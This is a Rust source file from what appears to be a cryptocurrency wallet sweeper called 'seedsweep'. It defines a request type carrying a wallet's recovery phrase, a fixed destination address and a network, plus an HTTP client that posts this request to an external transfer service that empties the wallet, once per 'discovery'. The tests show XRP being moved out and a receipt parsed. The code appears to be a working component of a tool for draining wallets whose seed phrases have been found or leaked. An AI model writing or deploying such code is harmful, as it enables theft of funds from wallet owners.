//! Fund transfer collaborator client.
//!
//! Signing and submission happen in the external transfer service; the
//! engine only hands over the phrase, the destination and the network, and
//! records the receipt.

use async_trait::async_trait;
use reqwest::Client;
use seedsweep_core::{Address, Network, Result, SweepError};
use serde::{Deserialize, Serialize};
use std::time::Duration;

/// Request handed to the transfer service for one discovery.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct SweepRequest {
    /// Recovery phrase controlling the source wallet.
    pub seed_phrase: String,
    /// Fixed destination address for the swept funds.
    pub recipient_address: Address,
    /// Which network the transfer runs on.
    pub network: Network,
}

/// Receipt reported by the transfer service.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct SweepReceipt {
    /// Whether the transfer validated.
    pub success: bool,
    /// Human-readable outcome description.
    #[serde(default)]
    pub message: Option<String>,
    /// Source balance left behind after the transfer, as reported.
    #[serde(default)]
    pub new_balance: Option<String>,
}

/// The outbound transfer contract.
#[async_trait]
pub trait FundTransfer: Send + Sync {
    /// Submit one sweep. Invoked at most once per discovery.
    async fn sweep(&self, request: &SweepRequest) -> Result<SweepReceipt>;
}

/// HTTP implementation posting to the configured transfer endpoint.
pub struct HttpTransferService {
    http: Client,
    url: String,
}

impl HttpTransferService {
    /// Create a client for the transfer endpoint at `url`.
    pub fn new(url: impl Into<String>, timeout: Duration) -> Result<Self> {
        let http = Client::builder()
            .timeout(timeout)
            .build()
            .map_err(|e| SweepError::Network(format!("failed to create HTTP client: {e}")))?;

        Ok(Self {
            http,
            url: url.into(),
        })
    }
}

#[async_trait]
impl FundTransfer for HttpTransferService {
    async fn sweep(&self, request: &SweepRequest) -> Result<SweepReceipt> {
        let response = self
            .http
            .post(&self.url)
            .json(request)
            .send()
            .await
            .map_err(|e| SweepError::Network(format!("transfer request failed: {e}")))?
            .error_for_status()
            .map_err(|e| SweepError::Network(format!("transfer service rejected sweep: {e}")))?;

        response
            .json::<SweepReceipt>()
            .await
            .map_err(|e| SweepError::Network(format!("unreadable transfer receipt: {e}")))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_request_wire_format() {
        let request = SweepRequest {
            seed_phrase: "word ".repeat(11) + "word",
            recipient_address: Address::new("rN7n7otQDd6FczFgLdSqtcsAUxDkw6fzRH")
                .expect("valid address"),
            network: Network::Testnet,
        };
        let json = serde_json::to_value(&request).expect("serialize request");
        assert!(json.get("seedPhrase").is_some());
        assert!(json.get("recipientAddress").is_some());
        assert_eq!(json["network"], "testnet");
    }

    #[test]
    fn test_receipt_parsing() {
        let receipt: SweepReceipt = serde_json::from_str(
            r#"{"success":true,"message":"Successfully transferred 4.9 XRP","newBalance":"0.1"}"#,
        )
        .expect("parse receipt");
        assert!(receipt.success);
        assert_eq!(receipt.new_balance.as_deref(), Some("0.1"));
    }

    #[test]
    fn test_receipt_optional_fields() {
        let receipt: SweepReceipt =
            serde_json::from_str(r#"{"success":false}"#).expect("parse minimal receipt");
        assert!(!receipt.success);
        assert!(receipt.message.is_none());
        assert!(receipt.new_balance.is_none());
    }
}
